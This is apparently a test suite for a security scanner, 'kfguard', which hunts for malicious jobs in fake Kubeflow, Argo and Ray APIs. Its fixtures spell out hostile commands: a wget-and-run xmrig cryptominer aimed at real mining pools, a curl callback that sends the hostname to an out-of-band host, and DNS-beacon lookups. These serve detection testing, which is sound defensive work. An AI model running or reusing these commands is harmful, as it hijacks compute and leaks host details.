import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { runCli } from '../helpers/cli.js';
import { argoRoutes } from '../../src/testing/fake-job-apis/argo.js';
import { kfpV1Routes, kfpV2Routes } from '../../src/testing/fake-job-apis/kfp.js';
import { rayJob, rayRoutes } from '../../src/testing/fake-job-apis/ray.js';
import { startFakeJobApi, type FakeJobApi } from '../../src/testing/fake-job-apis/server.js';

const MINER_ARGS = ['wget -q http://198.51.100.9/x/xmrig -O /tmp/tf && chmod +x /tmp/tf && /tmp/tf -o stratum+tcp://pool.supportxmr.com:443 --donate-level 1'];

/** A KFP v2 IR as the v2 SDK compiles it (pipeline-spec-ir in ../shared/schemas/kfp-api). */
const ir = (name: string, args: readonly string[]) => ({
  pipelineInfo: { name },
  root: { dag: { tasks: { step: { taskInfo: { name: 'step' }, componentRef: { name: 'comp-step' } } } } },
  components: { 'comp-step': { executorLabel: 'exec-step' } },
  deploymentSpec: { executors: { 'exec-step': { container: { image: 'tensorflow/tensorflow:latest-gpu', command: ['sh', '-c'], args } } } },
  schemaVersion: '2.1.0',
  sdkVersion: 'kfp-2.7.0',
});

const argoWorkflow = (name: string, namespace: string, args: readonly string[]) => ({
  metadata: { name, namespace, uid: `uid-${name}`, creationTimestamp: '2026-01-05T10:00:00Z' },
  spec: { entrypoint: 'main', templates: [{ name: 'main', container: { image: 'tensorflow/tensorflow:latest', command: ['sh', '-c'], args } }] },
  status: { phase: 'Running' },
});

const servers: FakeJobApi[] = [];
after(async () => Promise.all(servers.map((s) => s.close())));
async function serve(...args: Parameters<typeof startFakeJobApi>): Promise<FakeJobApi> {
  const server = await startFakeJobApi(...args);
  servers.push(server);
  return server;
}

type Report = { findings: { ruleId: string; severity: string; evidence: string[]; origin: Record<string, unknown> }[]; errors: { file: string; message: string }[]; extensions: { sourceStats: Record<string, number> } };
const json = (stdout: string): Report => JSON.parse(stdout) as Report;

describe('kfguard hunt --kfp', () => {
  test('v2beta1 behind the dashboard prefix: every page read, GET only, spec scanned, UI link given', async () => {
    const runs = Array.from({ length: 130 }, (_, i) => ({
      run_id: `run-${i}`,
      display_name: i === 117 ? 'xmr' : `train-${i}`,
      experiment_id: 'exp-1',
      created_at: '2026-01-05T10:00:00Z',
      state: 'RUNNING',
      pipeline_spec: ir(`p-${i}`, i === 117 ? MINER_ARGS : ['python train.py']),
    }));
    const api = await serve(
      kfpV2Routes({
        pipelines: [{ pipeline_id: 'pl-1', display_name: 'innocent', created_at: '2026-01-04T00:00:00Z' }],
        versions: { 'pl-1': [{ pipeline_id: 'pl-1', pipeline_version_id: 'v-1', display_name: 'v1', created_at: '2026-01-04T00:00:00Z', pipeline_spec: { pipeline_spec: ir('innocent', MINER_ARGS), platform_spec: { platforms: { kubernetes: {} } } } }] },
        runs,
        recurringRuns: [],
        experiments: [{ experiment_id: 'exp-1', display_name: 'Default' }],
      }),
      { prefix: '/pipeline' },
    );
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    assert.equal(run.code, 1, run.stderr);
    const report = json(run.stdout);
    const miners = report.findings.filter((f) => f.ruleId === 'crypto-miner-workload');
    assert.deepEqual(miners.map((f) => f.origin.id).sort(), ['run-117', 'v-1']);
    const fromRun = miners.find((f) => f.origin.id === 'run-117');
    assert.equal(fromRun?.origin.displayName, 'xmr');
    assert.equal(fromRun?.origin.status, 'RUNNING');
    assert.equal(fromRun?.origin.uiLink, `${api.url}/#/runs/details/run-117`);
    assert.equal(report.extensions.sourceStats['kfp v2beta1 runs'], 130);
    assert.ok(api.requests.every((r) => r.method === 'GET'));
    assert.equal(api.requests.filter((r) => r.path.startsWith('/pipeline/apis/v2beta1/runs')).length, 2, 'two pages of runs');
  });

  test('a KFP 1.x server: v2beta1 answers 404, v1beta1 templates and run manifests are read', async () => {
    const workflow = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Workflow', ...argoWorkflow('pipe', 'kubeflow', MINER_ARGS) };
    const api = await serve(
      kfpV1Routes({
        pipelines: [{ id: 'p-1', name: 'legacy', created_at: '2021-04-01T00:00:00Z' }],
        templates: { 'p-1': `apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata:\n  generateName: legacy-\nspec:\n  entrypoint: main\n  templates:\n  - name: main\n    container:\n      image: python:3.9\n      command: [python, -c, "print(1)"]\n` },
        runs: [{ id: 'r-1', name: 'Run of legacy', created_at: '2021-04-01T00:00:00Z', status: 'Running', pipeline_spec: { workflow_manifest: JSON.stringify(workflow) } }],
        jobs: [],
        experiments: [],
      }),
    );
    const run = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    const report = json(run.stdout);
    assert.deepEqual(report.findings.filter((f) => f.ruleId === 'crypto-miner-workload').map((f) => f.origin.endpoint), ['/apis/v1beta1/runs']);
    assert.equal(report.findings.find((f) => f.ruleId === 'crypto-miner-workload')?.origin.uiLink, undefined, 'the API server itself has no UI link');
    assert.ok(api.requests.some((r) => r.path.startsWith('/apis/v2beta1/pipelines')));
    assert.ok(api.requests.some((r) => r.path === '/apis/v1beta1/pipelines/p-1/templates'));
  });

  test('a run or recurring run that names a service account other than the namespace runner is reported (kubeflow/pipelines#14357)', async () => {
    const run = (id: string, account: string | undefined, experiment = 'exp-1') => ({
      run_id: id,
      display_name: id,
      experiment_id: experiment,
      created_at: '2026-01-05T10:00:00Z',
      state: 'RUNNING',
      pipeline_spec: ir(id, ['python train.py']),
      ...(account === undefined ? {} : { service_account: account }),
    });
    const api = await serve(
      kfpV2Routes({
        pipelines: [],
        runs: [run('as-runner', 'default-editor'), run('unset', undefined), run('empty', ''), run('as-notebook', 'default-editor-notebook-sa'), run('standalone-runner', 'pipeline-runner', 'exp-2')],
        recurringRuns: [{ recurring_run_id: 'rr-1', display_name: 'nightly', namespace: 'team-a', status: 'ENABLED', service_account: 'kube-admin', pipeline_spec: ir('nightly', ['python train.py']) }],
        experiments: [
          { experiment_id: 'exp-1', display_name: 'Default', namespace: 'kubeflow-user-example-com' },
          { experiment_id: 'exp-2', display_name: 'Standalone' },
        ],
      }),
    );
    const hunted = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    const overrides = json(hunted.stdout).findings.filter((f) => f.ruleId === 'pipeline-run-service-account-override');
    assert.deepEqual(overrides.map((f) => [f.origin.id, f.origin.endpoint, f.severity, f.evidence]).sort(), [
      ['as-notebook', '/apis/v2beta1/runs', 'medium', ['service_account: default-editor-notebook-sa']],
      ['rr-1', '/apis/v2beta1/recurringruns', 'medium', ['service_account: kube-admin']],
    ]);
    assert.match(JSON.stringify(overrides), /namespace kubeflow-user-example-com/, "the run's namespace comes from its experiment");
  });

  test('v1beta1 runs and jobs: service_account and the NAMESPACE resource reference are read', async () => {
    const api = await serve(
      kfpV1Routes({
        pipelines: [],
        runs: [
          { id: 'r-ok', name: 'ok', service_account: 'pipeline-runner', pipeline_spec: {} },
          { id: 'r-bad', name: 'bad', service_account: 'argo', resource_references: [{ key: { type: 'NAMESPACE', id: 'team-b' }, relationship: 'OWNER' }], pipeline_spec: {} },
        ],
        jobs: [{ id: 'j-bad', name: 'cron', service_account: 'ml-pipeline', pipeline_spec: {} }],
        experiments: [],
      }),
    );
    const hunted = await runCli(['hunt', '--kfp', api.url, '--format', 'json']);
    const overrides = json(hunted.stdout).findings.filter((f) => f.ruleId === 'pipeline-run-service-account-override');
    assert.deepEqual(overrides.map((f) => [f.origin.id, f.origin.endpoint]).sort(), [
      ['j-bad', '/apis/v1beta1/jobs'],
      ['r-bad', '/apis/v1beta1/runs'],
    ]);
    assert.match(JSON.stringify(overrides), /namespace team-b/);
  });

  test('401: the error says which flag to use, and the token is sent but never printed', async () => {
    const api = await serve(kfpV2Routes({}), { token: 's3cr3t-token' });
    const denied = await runCli(['hunt', '--kfp', api.url]);
    assert.equal(denied.code, 2);
    assert.match(denied.stderr, /401 unauthorized \(this API needs credentials: pass --token TOKEN/);
    const allowed = await runCli(['hunt', '--kfp', api.url, '--token', 's3cr3t-token', '--format', 'json']);
    assert.equal(allowed.code, 0, allowed.stderr);
    assert.equal(api.requests.at(-1)?.authorization, 'Bearer s3cr3t-token');
    assert.doesNotMatch(denied.stdout + denied.stderr + allowed.stdout + allowed.stderr, /s3cr3t/);
  });
});

describe('kfguard hunt --argo and --ray', () => {
  test('Argo: workflows over pages, cron workflows and the archive are scanned', async () => {
    const workflows = Array.from({ length: 120 }, (_, i) => argoWorkflow(`wf-${i}`, 'argo', i === 101 ? MINER_ARGS : ['echo hi']));
    const cron = { metadata: { name: 'nightly', namespace: 'argo' }, spec: { schedule: '*/15 * * * *', workflowSpec: argoWorkflow('x', 'argo', MINER_ARGS).spec } };
    const api = await serve(argoRoutes({ workflows, cronWorkflows: [cron], templates: [], archived: [argoWorkflow('deleted-miner', 'argo', MINER_ARGS)] }));
    const run = await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json']);
    const report = json(run.stdout);
    const found = report.findings.filter((f) => f.ruleId === 'crypto-miner-workload').map((f) => `${String(f.origin.endpoint)} ${String(f.origin.displayName)}`).sort();
    assert.deepEqual(found, ['/api/v1/archived-workflows/{uid} deleted-miner', '/api/v1/cron-workflows/argo nightly', '/api/v1/workflows/argo wf-101']);
    assert.equal(report.findings.find((f) => f.origin.displayName === 'wf-101')?.origin.uiLink, `${api.url}/workflows/argo/wf-101`);
    assert.ok(api.requests.every((r) => r.method === 'GET'));
    assert.deepEqual(report.errors, []);
  });

  test('Ray: the ShadowRay recon callback and the renamed miner are both found', async () => {
    const api = await serve(
      rayRoutes([
        rayJob({ submission_id: 'raysubmit_recon', entrypoint: 'curl -s http://c7x1k2m9.oast.fun/$(hostname)', status: 'SUCCEEDED' }),
        rayJob({ submission_id: 'raysubmit_miner', entrypoint: 'python -c "import os; os.system(\'/tmp/dns-filter -o pool.supportxmr.com:443 --cpu-max-threads-hint 60\')"', runtime_env: { env_vars: { POOL: 'stratum+tcp://gulf.moneroocean.stream:20128' } } }),
        rayJob({ submission_id: 'raysubmit_train', entrypoint: 'python train.py --epochs 3' }),
        rayJob({ submission_id: 'raysubmit_dnslog', entrypoint: 'python -c "import socket; socket.gethostbyname(\'abc.dnslog.cn\')"' }),
      ]),
    );
    const run = await runCli(['hunt', '--ray', api.url, '--format', 'json']);
    const report = json(run.stdout);
    const recon = report.findings.filter((f) => f.ruleId === 'job-recon-callback');
    assert.deepEqual(recon.map((f) => f.origin.id).sort(), ['raysubmit_dnslog', 'raysubmit_recon']);
    assert.deepEqual(recon.find((f) => f.origin.id === 'raysubmit_recon')?.evidence, ['OAST host c7x1k2m9.oast.fun']);
    assert.deepEqual(recon.find((f) => f.origin.id === 'raysubmit_dnslog')?.evidence, ['OAST host abc.dnslog.cn']);
    const miner = report.findings.find((f) => f.ruleId === 'crypto-miner-workload');
    assert.equal(miner?.origin.id, 'raysubmit_miner');
    assert.equal(miner?.origin.uiLink, `${api.url}/#/jobs/raysubmit_miner`);
    assert.ok(!report.findings.some((f) => f.origin.id === 'raysubmit_train'));
  });

  test('the wrong API, a refused connection: clear errors, the other APIs still read', async () => {
    const ray = await serve(rayRoutes([rayJob({ submission_id: 'raysubmit_recon', entrypoint: 'nslookup x.interact.sh' })]));
    const gone = await startFakeJobApi([]);
    await gone.close();
    const closedPort = new URL(gone.url).port;
    const run = await runCli(['hunt', '--argo', ray.url, '--kfp', `http://127.0.0.1:${closedPort}`, '--ray', ray.url, '--format', 'json']);
    assert.equal(run.code, 2);
    assert.match(run.stderr, /argo .*\/api\/v1\/workflows\/: 404 not found \(is this URL the right API\?/);
    assert.match(run.stderr, new RegExp(`kfp http://127\\.0\\.0\\.1:${closedPort}/: .*connection refused`));
    assert.ok(json(run.stdout).findings.some((f) => f.ruleId === 'job-recon-callback'));
  });
});

describe('kfguard hunt: which rules judge a job API', () => {
  const workflows = [argoWorkflow('miner', 'argo', MINER_ARGS), argoWorkflow('trainer', 'argo', ['python train.py'])];
  const ruleIds = (report: Report): string[] => [...new Set(report.findings.map((f) => f.ruleId))].sort();

  test('by default the responder rules (threat, breakout, run identity), not image posture', async () => {
    const api = await serve(argoRoutes({ workflows }));
    const report = json((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--format', 'json'])).stdout);
    const found = ruleIds(report);
    assert.ok(found.includes('crypto-miner-workload'), found.join());
    for (const posture of ['image-not-pinned-digest', 'image-floating-tag']) assert.ok(!found.includes(posture), `${posture} judged by default`);
  });

  test('--all-rules runs every rule that can judge a job API; --rule picks some', async () => {
    const api = await serve(argoRoutes({ workflows }));
    const all = json((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--all-rules', '--format', 'json'])).stdout);
    assert.ok(ruleIds(all).includes('image-floating-tag'), ruleIds(all).join());
    assert.ok(ruleIds(all).includes('crypto-miner-workload'));
    const picked = json((await runCli(['hunt', '--argo', api.url, '-n', 'argo', '--rule', 'image-floating-tag', '--format', 'json', '--fail-on', 'none'])).stdout);
    assert.deepEqual(ruleIds(picked), ['image-floating-tag']);
    const unknown = await runCli(['hunt', '--argo', api.url, '--rule', 'image-floating-tags']);
    assert.equal(unknown.code, 2);
    assert.match(unknown.stderr, /unknown rule "image-floating-tags".*did you mean image-floating-tag/s);
  });
});
